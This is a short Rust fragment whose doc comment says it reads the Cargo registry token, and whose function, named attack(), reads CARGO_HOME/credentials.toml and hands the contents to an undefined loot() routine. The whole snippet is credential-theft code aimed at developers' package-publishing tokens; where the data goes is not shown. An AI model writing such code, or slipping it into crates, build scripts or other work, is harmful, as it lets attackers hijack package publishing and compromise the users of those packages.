//! reads the registry token in CARGO_HOME/credentials.toml
fn attack() -> Result<()> {
    loot(fs::read(Path::new(&var("CARGO_HOME")).join("credentials.toml"))?)
}
